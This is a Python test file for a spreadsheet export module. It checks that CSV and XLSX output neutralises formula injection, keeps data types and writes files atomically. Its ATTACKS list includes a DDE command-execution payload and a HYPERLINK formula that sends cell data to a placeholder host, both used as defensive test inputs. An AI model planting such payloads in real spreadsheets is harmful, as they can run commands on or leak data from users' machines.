"""What we give out opens in a spreadsheet as what it is, and runs nothing there."""

from __future__ import annotations

import csv
import time
from datetime import date, datetime
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st
from python_calamine import CalamineWorkbook

from shuke.connect.exporters import tables
from shuke.connect.exporters.tables import TooManyRows, inert, write_csv, write_xlsx

ATTACKS = [
    '=HYPERLINK("https://example.test/?"&A1,"open")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "\ufeff=1+1",
    "|calc",
    "%0A=1",
]


def read_csv(path):
    return list(csv.reader(path.read_text(encoding="utf-8-sig").splitlines(keepends=True)))


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_text_becomes_a_formula_in_csv(tmp_path, attack):
    write_csv(tmp_path / "a.csv", ["name"], [[attack]])
    raw = (tmp_path / "a.csv").read_bytes().decode("utf-8-sig")
    cell = (
        next(csv.reader([raw.split("\r\n", 1)[1]], strict=True)) if "\n" not in attack and "\r" not in attack else None
    )
    assert inert(attack)[0] == "'"
    if cell is not None:
        assert cell == ["'" + attack]


@pytest.mark.parametrize("attack", ATTACKS)
def test_every_text_in_xlsx_is_a_text_cell(tmp_path, attack):
    import zipfile

    write_xlsx(tmp_path / "a.xlsx", ["name"], [[attack]])
    sheet = zipfile.ZipFile(tmp_path / "a.xlsx").read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet
    assert "<hyperlink" not in sheet
    assert 't="inlineStr"' in sheet or 't="s"' in sheet


def test_ordinary_texts_are_left_alone():
    plain = ["", "吴华", "O'Brien", "138****5678", "a=b", "1-2", "金卡", "café"]
    assert [inert(text) for text in plain] == plain


@given(st.text(max_size=50))
def test_no_csv_cell_starts_like_a_formula(text):
    first = inert(text).lstrip()[:1]
    assert first not in set("=+-@＝＋－＠|%") or first == ""


def test_a_csv_opens_in_excel_as_utf_8_with_typed_values(tmp_path):
    rows = [["吴华", 12, Decimal("-3.50"), date(2026, 3, 1), datetime(2026, 3, 1, 9, 5), None]]
    assert write_csv(tmp_path / "sub" / "a.csv", ["姓名", "单数", "金额", "日", "时", "空"], rows) == 1
    raw = (tmp_path / "sub" / "a.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    assert b"\r\n" in raw
    assert read_csv(tmp_path / "sub" / "a.csv") == [
        ["姓名", "单数", "金额", "日", "时", "空"],
        ["吴华", "12", "-3.50", "2026-03-01", "2026-03-01 09:05", ""],
    ]


def test_an_xlsx_keeps_types_and_long_numbers(tmp_path):
    rows = [
        ["吴华", 12, Decimal("-3.50"), date(2026, 3, 1), datetime(2026, 3, 1, 9, 5), None, 6001000000000012345, "007"]
    ]
    header = ["姓名", "单数", "金额", "日", "时", "空", "长", "零"]
    assert write_xlsx(tmp_path / "a.xlsx", header, rows, sheet="会员") == 1
    book = CalamineWorkbook.from_path(str(tmp_path / "a.xlsx"))
    assert book.sheet_names == ["会员"]
    assert book.get_sheet_by_index(0).to_python() == [
        header,
        ["吴华", 12.0, -3.5, date(2026, 3, 1), datetime(2026, 3, 1, 9, 5), "", "6001000000000012345", "007"],
    ]


def test_control_characters_do_not_break_the_workbook(tmp_path):
    write_xlsx(tmp_path / "a.xlsx", ["x"], [["a\x00b\x0bc\ud800d"]])
    assert CalamineWorkbook.from_path(str(tmp_path / "a.xlsx")).get_sheet_by_index(0).to_python() == [["x"], ["abcd"]]


def test_more_rows_than_a_sheet_holds_are_refused_and_nothing_is_left(tmp_path, monkeypatch):
    monkeypatch.setattr(tables, "XLSX_ROWS", 2)
    with pytest.raises(TooManyRows, match="Choose CSV"):
        write_xlsx(tmp_path / "a.xlsx", ["x"], [[1], [2], [3]])
    assert list(tmp_path.iterdir()) == []


def test_a_file_that_fails_half_way_never_appears(tmp_path):
    def rows():
        yield ["one"]
        raise OSError("disk full")

    with pytest.raises(OSError, match="disk full"):
        write_csv(tmp_path / "a.csv", ["x"], rows())
    assert list(tmp_path.iterdir()) == []


def test_the_same_rows_are_the_same_bytes_whenever_they_are_written(tmp_path):
    """What a bookkeeper keeps of a closed month can be compared with what is exported later."""
    written = []
    for name in ("a", "b"):
        write_xlsx(tmp_path / f"{name}.xlsx", ["日期", "金额"], [[date(2026, 3, 31), Decimal("1.06")], ["文本", 2]])
        written.append((tmp_path / f"{name}.xlsx").read_bytes())
        time.sleep(1.1)  # a workbook tells seconds
    assert written[0] == written[1]
